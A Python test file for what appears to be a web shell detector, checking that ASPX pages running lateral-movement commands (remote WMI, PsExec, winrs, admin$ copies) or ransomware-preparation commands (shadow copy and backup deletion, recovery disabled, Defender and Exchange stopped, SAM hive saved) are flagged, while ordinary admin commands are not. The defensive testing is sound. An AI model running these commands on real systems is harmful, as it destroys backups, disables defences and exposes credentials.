"""Fixed command lines that reach other machines (EXH-WS-CODE-LATERAL-COMMAND: remote WMI, PsExec
and its clones, PowerShell remoting, winrs, copies to administrative shares) and that prepare a
server for ransomware (EXH-WS-CODE-IMPACT-COMMAND: shadow copies and backups deleted, recovery
turned off, the change journal deleted, Exchange's store or Defender stopped). No client data
reaches any of them. Kept quiet: the same programs doing an administrator's ordinary work."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, vb_page

LATERAL = "EXH-WS-CODE-LATERAL-COMMAND"
IMPACT = "EXH-WS-CODE-IMPACT-COMMAND"


def cmd(line: str) -> str:
    """A C# page that runs `cmd /c line` once, with the line as C# source text."""
    return cs_page('System.Diagnostics.Process.Start("cmd.exe", "/c ' + line + '");')


FOUND = [
    ("wmic-node", cmd('wmic /node:10.0.0.5 process call create \\"cmd /c whoami\\"'), LATERAL, "/node:10.0.0.5"),
    ("psexec", cmd("psexec.exe \\\\\\\\10.0.0.5 -s -d cmd.exe"), LATERAL, "psexec.exe"),
    (
        "invoke-command",
        cs_page(
            "System.Management.Automation.PowerShell.Create()"
            '.AddScript("Invoke-Command -ComputerName DC01 -ScriptBlock { hostname }").Invoke();'
        ),
        LATERAL,
        "-ComputerName DC01",
    ),
    ("winrs", vb_page('Shell("winrs -r:DC01 cmd /c hostname")'), LATERAL, "winrs -r:DC01"),
    (
        "admin-share",
        cmd("copy C:\\\\Temp\\\\a.dll \\\\\\\\10.0.0.5\\\\admin$\\\\a.dll"),
        LATERAL,
        "admin$",
    ),
    ("vss", cmd("vssadmin delete shadows /all /quiet"), IMPACT, "vssadmin delete shadows"),
    ("wbadmin", cmd("wbadmin delete catalog -quiet"), IMPACT, "wbadmin delete catalog"),
    ("bcdedit", cmd("bcdedit /set {default} recoveryenabled No"), IMPACT, "recoveryenabled"),
    (
        "shadow-wmi",
        cs_page(
            'System.Diagnostics.Process.Start("powershell.exe", "-c Get-WmiObject Win32_ShadowCopy | '
            'ForEach-Object { $_.Delete() }");'
        ),
        IMPACT,
        "Win32_ShadowCopy",
    ),
    ("usn", cmd("fsutil usn deletejournal /d C:"), IMPACT, "deletejournal"),
    ("store-stop", cmd("net stop MSExchangeIS /y"), IMPACT, "MSExchangeIS"),
    ("defender-stop", cmd("sc stop WinDefend"), IMPACT, "WinDefend"),
    ("taskkill-store", cmd("taskkill /f /im MSExchangeTransport.exe"), IMPACT, "taskkill"),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "shown"), FOUND, ids=[f[0] for f in FOUND])
def test_fixed_command_found(name: str, code: str, rule_id: str, shown: str) -> None:
    assert_found(f"{name}.aspx", code, rule_id, ["runs a command that", shown])


LOOKALIKES = [
    ("wmic-local", cmd("wmic os get caption")),
    ("vss-list", cmd("vssadmin list shadows")),
    ("wbadmin-start", cmd("wbadmin start backup -backupTarget:E: -include:C: -quiet")),
    ("iis-restart", cmd("net stop w3svc & net start w3svc")),
    ("taskkill-own", cmd("taskkill /f /im thumbs.exe")),
    ("unc-share", cmd("copy C:\\\\Temp\\\\report.csv \\\\\\\\files\\\\reports\\\\")),
]


@pytest.mark.parametrize(("name", "code"), LOOKALIKES, ids=[x[0] for x in LOOKALIKES])
def test_lookalike_not_reported(name: str, code: str) -> None:
    assert_benign(f"{name}.aspx", code)


def test_a_batch_file_the_page_writes_and_starts_is_read() -> None:
    # DearCry's web shells wrote a batch file and ran it: the start itself spells no command.
    code = cs_page(
        'var bat = Server.MapPath("~/App_Data/u.bat");\n'
        'System.IO.File.WriteAllText(bat, "vssadmin delete shadows /all /quiet\\r\\nreg save hklm\\\\sam sam.hiv");\n'
        "System.Diagnostics.Process.Start(bat);"
    )
    found = assert_found("u.aspx", code, IMPACT, ["the script written at line 5: vssadmin delete shadows /all /quiet ; reg save"])
    assert "EXH-WS-CODE-CREDENTIAL-COMMAND" in {c.rule_id for c in found.capabilities}


def test_a_fixed_file_written_beside_a_fixed_tool_stays_quiet() -> None:
    code = cs_page(
        'System.IO.File.WriteAllText(Server.MapPath("~/App_Data/job.ini"), "[job]\\r\\nsize=120");\n'
        'System.Diagnostics.Process.Start(Server.MapPath("~/bin/thumbs.exe"), "-q");'
    )
    assert_benign("job.aspx", code)
